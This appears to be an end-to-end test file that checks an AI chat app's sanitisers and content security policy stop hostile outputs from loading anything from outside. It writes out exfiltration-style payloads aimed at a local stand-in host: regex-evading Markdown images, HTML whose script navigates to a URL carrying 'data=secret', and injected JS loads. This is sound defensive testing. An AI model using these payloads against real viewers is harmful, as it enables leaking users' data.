"""Nothing leaves through the viewer's browser (issue 20): hostile outputs and answers make no outside request.

A web server on another loopback port stands for the outside world. One scripted turn shows, in a chat step and
in the side panel's workspace previews, an HTML output whose script navigates its frame there and opens a window,
Markdown with images hidden from regular expressions (nested and escaped brackets, a multi-line alt text, a
reference-style image, raw ``<img>``), and a Plotly figure whose layout image points there; the model's answer
repeats the Markdown. The listener must receive nothing. Another test puts such markup straight into the app's page,
as a parser that missed it would: the page's content policy alone stops every load. A third reads the content
policy in the headers.
"""

from __future__ import annotations

import http.server
import json
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from core.web.content_policy import FILE_POLICY, PAGE_POLICY
from tests.e2e.conftest import ARTIFACTS, needs_chromium, wait_until

pytestmark = needs_chromium
MESSAGES = "[data-testid=stChatMessage]"
SETTLE_MS = 2000
"""How long the listener is given once everything hostile is on the page and both scripts have logged.

That nothing arrives can only be shown by waiting a bounded time: the scripts navigate right after logging (300 ms
after they start) and the images load as they are drawn, so 2 s covers both with room on a busy 2-core machine.
"""


def hostile_markdown(address: str) -> str:
    """Markdown whose images a regular expression misses, each pointing at ``address``."""
    return (
        f"Nested: ![a [nested] alt]({address}/nested.png)\n\n"
        f"Escaped: ![an \\] escaped alt]({address}/escaped.png)\n\n"
        f"Multi-line: ![first line\nsecond line]({address}/multiline.png)\n\n"
        "Reference: ![by reference][outside]\n\n"
        f'Raw: <img src="{address}/raw-html.png">\n\n'
        f"[outside]: {address}/reference.png\n"
    )


def hostile_html(address: str, says: str) -> str:
    """A page that logs ``says``, then navigates its frame to ``address``; it also opens a window and restyles."""
    return (
        "<style>body {display: none}</style><p>hostile page</p>"
        f'<img src="{address}/html.png"><form action="{address}/post"><input name=q></form>'
        f"<script>window.open('{address}/popup');"
        f"setTimeout(function () {{ console.log('{says}'); location.href = '{address}/navigation?data=secret'; }}, 300)"
        "</script>"
    )


def hostile_figure(address: str) -> dict[str, Any]:
    """A Plotly figure whose layout image is loaded from ``address``."""
    image = {"source": f"{address}/plotly.png", "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1}
    return {"data": [{"type": "bar", "x": [1, 2, 3], "y": [3, 1, 2]}], "layout": {"images": [image]}}


def hostile_code(address: str) -> str:
    """Code that shows every hostile output and writes the files the workspace previews."""
    figure = json.dumps(hostile_figure(address))
    return (
        "import json\nfrom IPython.display import HTML, Markdown, display\n"
        f"display(HTML({hostile_html(address, 'output navigates')!r}))\n"
        f"display(Markdown({hostile_markdown(address)!r}))\n"
        f"display({{'application/vnd.plotly.v1+json': json.loads({figure!r})}}, raw=True)\n"
        f"open('hostile.html', 'w').write({hostile_html(address, 'preview navigates')!r})\n"
        f"open('figure.json', 'w').write({figure!r})\n"
        "print('outputs ' + 'shown')\n"
        f"raise ValueError('**loud** ![leak]({address}/error.png)')"
    )


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server on another loopback port that records every request it gets (none should come)."""
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()


@pytest.fixture(scope="module")
def scripted_steps(listener: tuple[str, list[str]]) -> list[dict[str, Any]]:
    """One turn: the hostile step, its files saved to the workspace, and an answer of hostile Markdown."""
    address = listener[0]
    return [
        {"tool": "execute_code", "input": {"code": hostile_code(address)}},
        {"tool": "ci_push_to_workspace", "input": {"paths": ["hostile.html", "figure.json"]}},
        {"text": "Here is the result.\n\n" + hostile_markdown(address)},
    ]


def test_hostile_outputs_answers_and_previews_send_nothing_outside(
    browser: Any, app_server: tuple[str, Path], listener: tuple[str, list[str]]
) -> None:
    from playwright.sync_api import expect

    address, requests = listener
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(60_000)
    logged: list[str] = []
    page.on("console", lambda message: logged.append(message.text))
    page.goto(app_server[0])
    chat_input = page.locator("[data-testid=stChatInputTextArea]")
    chat_input.fill("Show me everything.")
    chat_input.press("Enter")

    messages = page.locator(MESSAGES)
    expect(messages.get_by_text("Here is the result.")).to_be_visible()
    expect(messages.get_by_text("an image from 127.0.0.1 was not loaded")).to_have_count(8)  # 4 in output and answer
    expect(messages.locator("[data-testid=stPlotlyChart]")).to_be_visible()
    expect(messages.get_by_text("The figure's image from 127.0.0.1 was not loaded.")).to_be_visible()
    error = f"ValueError: **loud** ![leak]({address}/error.png)"
    expect(messages.locator("[data-testid=stAlert]").filter(has_text=error)).to_be_visible()  # literally, no image
    # On screen, as a person reading the output sees it: a browser may put off the work of frames out of view (the
    # page had followed the turn past it, and once in CI the script had not run 60 s later).
    messages.locator("iframe").first.scroll_into_view_if_needed()
    wait_until(page, lambda: "output navigates" in logged, "the output's script tried to navigate")
    assert chat_input.is_visible()  # the output's style stayed in its frame
    messages.get_by_text("an image from 127.0.0.1 was not loaded").first.scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "nothing-leaves-1-chat.png"))

    sidebar = page.locator("[data-testid=stSidebar]")
    sidebar.get_by_role("tab", name="Workspace").click()
    expect(sidebar.locator("[data-testid=stPlotlyChart]")).to_be_visible()  # a figure's preview starts open
    expect(sidebar.get_by_text("The figure's image from 127.0.0.1 was not loaded.")).to_be_visible()
    sidebar.locator("[data-testid=stExpander]").filter(has_text="hostile.html").get_by_text("hostile.html").click()
    wait_until(page, lambda: "preview navigates" in logged, "the preview's script tried to navigate")
    page.wait_for_timeout(SETTLE_MS)  # both scripts have run; their timers get this long to reach the listener
    messages.get_by_text("The figure's image from 127.0.0.1 was not loaded.").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "nothing-leaves-2-previews.png"))
    assert requests == []
    page.close()


INJECT = """address => {  // what markup a sanitiser missed would do, put straight into the app's own page
  window.blocked = [];
  document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.blockedURI));
  const image = new Image(); image.src = address + '/injected.png'; document.body.append(image);
  const frame = document.createElement('iframe'); frame.src = address + '/injected-frame'; document.body.append(frame);
  const box = document.createElement('div'); box.style.backgroundImage = `url(${address}/injected-background.png)`;
  document.body.append(box);
  const video = document.createElement('video'); video.src = address + '/injected.mp4'; document.body.append(video);
  new FontFace('injected', `url(${address}/injected.woff2)`).load().catch(() => {});
  fetch(address + '/injected-fetch').catch(() => {});
}"""
INJECTED = 6


def test_the_page_itself_loads_nothing_from_elsewhere_whatever_a_parser_misses(
    browser: Any, app_server: tuple[str, Path], listener: tuple[str, list[str]]
) -> None:
    """The content policy, not the sanitisers, is the last word: markup in the app's page that no parser cleaned."""
    address, requests = listener
    page = browser.new_page()
    page.goto(app_server[0])
    page.locator("[data-testid=stChatInputTextArea]").wait_for()
    page.evaluate(INJECT, address)
    wait_until(page, lambda: len(page.evaluate("window.blocked")) >= INJECTED, "the browser to block each load")
    assert all(blocked.startswith(address) for blocked in page.evaluate("window.blocked"))
    page.wait_for_timeout(SETTLE_MS)
    assert requests == []
    page.close()


def _headers(url: str) -> Any:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.headers
    except urllib.error.HTTPError as error:  # a refused download still says how it may be shown
        return error.headers


def test_pages_and_routes_send_the_content_policy(app_server: tuple[str, Path]) -> None:
    url = app_server[0]
    for page in ("/", "/settings", "/_stcore/health", "/static/js/missing.js"):
        assert _headers(url + page)["Content-Security-Policy"] == PAGE_POLICY, page
    for route in ("/download/not-a-token", "/media/missing.png"):
        assert _headers(url + route)["Content-Security-Policy"] == FILE_POLICY, route
    assert "frame-src 'self'" in PAGE_POLICY and "img-src 'self' data: blob:" in PAGE_POLICY
